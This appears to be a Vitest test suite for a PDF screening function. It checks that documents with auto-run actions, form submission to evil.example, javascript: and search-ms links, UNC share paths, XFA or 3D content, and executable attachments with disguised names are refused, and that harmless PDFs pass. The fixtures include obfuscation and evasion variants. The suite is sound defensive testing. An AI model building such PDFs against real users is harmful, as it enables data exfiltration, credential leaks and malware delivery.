import { describe, expect, test } from 'vitest';
import { type Encryption, encryptedPdf, encryptions } from './testing/encrypted-pdf.ts';
import { createJudge } from './testing/judge.ts';
import { assemblePdf, objectStream, samplePdf } from './testing/samples.ts';

const { judge } = await createJudge();

/** PDFs that do something by themselves, play or run something, fetch something, or carry something (rule 53). */

const stream = (entries: string, data = 'x'): string =>
  `<< ${entries} /Length ${data.length} >>\nstream\n${data}\nendstream`;
/** A document whose catalog and page say this besides; further objects are numbered from 4 on. */
const pdf = (catalog: string, page = '', ...objects: readonly string[]): Buffer =>
  assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>`,
    ...objects,
  ]);
const uri = '<< /S /URI /URI (https://evil.example/) >>';
const attached = (name: string): string =>
  `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`;
const link = (action: string): string => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`;
/** The same in an object stream, numbered 9 as its index says. */
const packed = (object: string): string => objectStream(`9 0 ${object}`);

describe('what a viewer would do by itself is refused', () => {
  test.each<[string, Buffer]>([
    ['an address on opening', pdf(`/OpenAction ${uri}`)],
    ['in another object', pdf('/OpenAction 4 0 R', '', uri)],
    ['in a compressed one', pdf('/OpenAction 9 0 R', '', packed(uri))],
    ['with names in other signs', pdf('/Open#41ction << /#53 /#55RI /URI (https://evil.example/) >>')],
    ['with a comment between', pdf(`/OpenAction % (x)\n${uri}`)],
    ['after a harmless action', pdf(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${uri} >>`)],
    [
      'after two, elsewhere',
      pdf(
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>',
        '',
        '<< /S /Named /N /NextPage /Next 5 0 R >>',
        uri,
      ),
    ],
    [
      'whose kind stands elsewhere',
      pdf('/OpenAction << /S 4 0 R /URI (https://evil.example/) >>', '', '/URI'),
    ],
    [
      'in a later revision',
      Buffer.concat([
        pdf('/OpenAction 4 0 R', '', '<< /S /GoTo /D [3 0 R /Fit] >>'),
        Buffer.from(`4 0 obj ${uri} endobj\nstartxref\n0\n%%EOF\n`),
      ]),
    ],
    ['when a page is shown', pdf('', `/AA << /O ${uri} >>`)],
    [
      'when a field is entered',
      pdf(
        '',
        '/Annots [4 0 R]',
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (rfc) /AA << /Fo 5 0 R >> >>`,
        uri,
      ),
    ],
    ['when it is closed', pdf('/AA 4 0 R', '', `<< /WC ${uri} >>`)],
    [
      'to send what is typed',
      pdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>'),
    ],
    ['to open another file', pdf('/OpenAction << /S /GoToR /F (otro.pdf) /D [0 /Fit] >>')],
    ['to run a script', pdf('/OpenAction << /S /JavaScript /JS (x) >>')],
    [
      'actions without end',
      pdf(
        '/OpenAction 4 0 R',
        '',
        ...Array.from({ length: 9 }, (_, n) => `<< /S /Named /N /NextPage /Next ${n + 5} 0 R >>`),
      ),
    ],
  ])('%s', async (_, bytes) => {
    expect(await judge(bytes, 'pdf')).toBe('con_acciones');
  });

  test.each(encryptions)('also where the document is encrypted with %s', async (kind: Encryption) => {
    expect(await judge(encryptedPdf(kind, { plain: [`<< /AA << /O ${uri} >> >>`] }), 'pdf')).toBe(
      'con_acciones',
    );
    expect(await judge(encryptedPdf(kind, { hidden: [`<< /AA << /O ${uri} >> >>`] }), 'pdf')).toBe(
      'con_acciones',
    );
  });

  test('what cannot be read as one would read it is no harmless action', async () => {
    expect(await judge(pdf(`/OpenAction << /S /GoTo /S /URI /URI (https://evil.example/) >>`), 'pdf')).toBe(
      'danado',
    );
    expect(await judge(pdf('/OpenAction 4 0 R', '', '<< /S /GoTo ( >>'), 'pdf')).toBe('danado');
  });
});

describe('forms that are programs, films and models are refused', () => {
  test.each<[string, Buffer, string]>([
    [
      'a form of XFA',
      pdf('/AcroForm << /Fields [] /XFA 4 0 R >>', '', stream('', '<xdp/>')),
      'con_formulario',
    ],
    [
      'in parts',
      pdf('/AcroForm 4 0 R', '', '<< /Fields [] /X#46A [(template) 5 0 R] >>', stream('')),
      'con_formulario',
    ],
    [
      'in a compressed object',
      pdf('/AcroForm 9 0 R', '', packed('<< /Fields [] /XFA [(template) 5 0 R] >>')),
      'con_formulario',
    ],
    [
      'a film',
      pdf('', '/Annots [4 0 R]', '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>'),
      'con_multimedia',
    ],
    [
      'a film of an old writer',
      pdf('', '', '<< /Type /Annot /Subtype /Movie /Movie << /F (a.avi) >> >>'),
      'con_multimedia',
    ],
    ['a model', pdf('', '', '<< /Type /Annot /Subtype /3D /3DD 5 0 R >>'), 'con_multimedia'],
    [
      'a model with a script',
      pdf('', '', stream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R')),
      'con_multimedia',
    ],
    [
      'a model whose kind stands elsewhere',
      pdf('', '', '<< /Type /Annot /Subtype 5 0 R >>', '/3D'),
      'con_multimedia',
    ],
    ['something that plays', pdf('', '', link('<< /S /Rendition /OP 0 /R 5 0 R >>')), 'con_multimedia'],
  ])('%s', async (_, bytes, code) => {
    expect(await judge(bytes, 'pdf')).toBe(code);
  });
});

describe('what lies elsewhere is refused', () => {
  test.each<[string, Buffer]>([
    ['a stream in another file', pdf('', '', stream('/F (otro.bin)'))],
    ['on a share', pdf('', '', stream('/F << /Type /Filespec /F (\\\\\\\\evil\\\\a) >>'))],
    ['named in another object', pdf('', '', stream('/Filter /FlateDecode /#46 5 0 R'), '(otro.bin)')],
    [
      'a link to a file on a share',
      pdf('', '', link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\a\\\\b.pdf) /D [0 /Fit] >>')),
    ],
    [
      'the same as PDF writes it',
      pdf('', '', link('<< /S /GoToR /F (//evil.example/a/b.pdf) /D [0 /Fit] >>')),
    ],
    [
      'in UTF-16',
      pdf(
        '',
        '',
        link(`<< /S /GoToR /F <feff${Buffer.from('\\\\evil\\a', 'utf16le').swap16().toString('hex')}> >>`),
      ),
    ],
    ['in octal signs', pdf('', '', link('<< /S /GoToR /F (\\134\\134evil\\134a.pdf) >>'))],
    ['of an old writer', pdf('', '', '<< /Type /Filespec /DOS (\\\\\\\\evil\\\\a.pdf) >>')],
    [
      'named in another object, too',
      pdf('', '', link('<< /S /GoToR /F 5 0 R >>'), '(\\\\\\\\evil\\\\a.pdf)'),
    ],
    ['in a compressed object', pdf('', '', packed('<< /Type /Filespec /F (//evil.example/a.pdf) >>'))],
    ['an address on a share', pdf('', '', link('<< /S /URI /URI (file://evil.example/a) >>'))],
    ['in signs of an address', pdf('', '', link('<< /S /URI /URI (file:%5C%5Cevil.example%5Ca) >>'))],
    ['an address that runs something', pdf('', '', link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'))],
    [
      'one that opens a program',
      pdf('', '', link('<< /S /URI /URI (search-ms:query=x&crumb=location:evil) >>')),
    ],
  ])('%s', async (_, bytes) => {
    expect(await judge(bytes, 'pdf')).toBe('contenido_externo');
  });

  test.each(encryptions)('also under encrypted names: %s', async (kind: Encryption) => {
    const remote = '<< /Type /Filespec /F (//evil.example/a.pdf) >>';
    expect(await judge(encryptedPdf(kind, { plain: [remote] }), 'pdf')).toBe('contenido_externo');
    expect(await judge(encryptedPdf(kind, { hidden: [remote] }), 'pdf')).toBe('contenido_externo');
  });
});

describe('of files inside only those that show something are taken', () => {
  test.each([
    'a.exe',
    'a.xll',
    'a.settingcontent-ms',
    'a.scf',
    'a.one',
    'a.zip',
    'a.docm',
    'a.xlsx',
    'a.pdf',
    'a.html',
    'a',
    'a.xml.lnk',
    'a.xml\\0.exe',
    '.xml.bat',
  ])('%s is refused', async (name) => {
    expect(await judge(pdf('', '', attached(name), stream('/Type /EmbeddedFile')), 'pdf')).toBe('adjunto');
  });

  test.each([
    'factura.xml',
    'FACTURA.XML',
    'Datos 2026.csv',
    'foto.JPG',
    'sello.p7s',
    'constancia.asn1',
    'leeme.txt ',
  ])('%s is taken', async (name) => {
    expect(await judge(pdf('', '', attached(name), stream('/Type /EmbeddedFile')), 'pdf')).toBe('ok');
  });
});

describe('what people have passes', () => {
  test.each<[string, Buffer]>([
    ['a document that opens on a page', pdf('/OpenAction [3 0 R /XYZ null null 0]')],
    ['by an action', pdf('/OpenAction << /Type /Action /S /GoTo /D [3 0 R /Fit] >>')],
    ['by an action elsewhere', pdf('/OpenAction 4 0 R', '', '<< /S /GoTo /D [3 0 R /FitH 842] >>')],
    ['by an array elsewhere', pdf('/OpenAction 4 0 R', '', '[3 0 R /Fit]')],
    ['by the name of a place', pdf('/OpenAction << /S /GoTo /D (inicio) >>')],
    ['on a page with links', pdf('/OpenAction [3 0 R /Fit]', `/Annots [4 0 R ${link(uri)}]`, link(uri))],
    [
      'and goes on to the printer',
      pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>'),
    ],
    [
      'links of every kind',
      pdf(
        '',
        '',
        ...[
          'https://www.sat.gob.mx',
          'www.sat.gob.mx:443/x',
          'mailto:a@osc.mx',
          '//www.gob.mx',
          'tel:+526141234567',
          'file:///C:/actas/a.pdf',
        ].map((to) => link(`<< /S /URI /URI (${to}) >>`)),
      ),
    ],
    ['a link to a file beside it', pdf('', '', link('<< /S /GoToR /F (anexos/anexo 2.pdf) /D [0 /Fit] >>'))],
    [
      'a button that sends a form',
      pdf(
        '/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf 0 g) >>',
        '',
        `<< /Type /Annot /Subtype /Widget /FT /Btn /T (enviar) /A << /S /SubmitForm /F << /FS /URL /F (https://www.gob.mx/enviar) >> /Flags 4 >> >>`,
      ),
    ],
    [
      'a form with its fields',
      pdf(
        '/AcroForm << /Fields [4 0 R] /NeedAppearances true >>',
        '',
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (rfc) /F 4 /V (XAXX010101000) >>',
      ),
    ],
    ['a form whose XFA was taken out', pdf('/AcroForm << /Fields [] /XFA null >>')],
    [
      'outlines, one after the other',
      pdf(
        '/Outlines 4 0 R',
        '',
        '<< /First 5 0 R /Last 6 0 R >>',
        `<< /Title (Uno) /Next 6 0 R /A ${uri} >>`,
        '<< /Title (Dos) /Dest [3 0 R /Fit] >>',
      ),
    ],
    [
      'a marked document',
      pdf(
        '/MarkInfo << /Marked true >> /StructTreeRoot 4 0 R',
        '/Group << /S /Transparency /CS /DeviceRGB >> /Trans << /S /Fade >>',
        '<< /Type /StructTreeRoot /K 5 0 R >>',
        '<< /S /Link /P 4 0 R /K 0 >>',
      ),
    ],
    [
      'a picture with its own entries',
      pdf(
        '',
        '',
        stream(
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /FlateDecode /DecodeParms << /Predictor 15 >>',
        ),
      ),
    ],
    [
      'a text that begins with bars',
      pdf('', '', '<< /Title (//evil.example/a) /Subject (\\\\\\\\a\\\\b) >>'),
    ],
  ])('%s', async (_, bytes) => {
    expect(await judge(bytes, 'pdf')).toBe('ok');
  });

  test('and the same words in a page', async () => {
    expect(
      await judge(samplePdf(['/OpenAction << /S /URI >> /XFA [ ] /Subtype /3D /F (//a/b)']), 'pdf'),
    ).toBe('ok');
  });
});
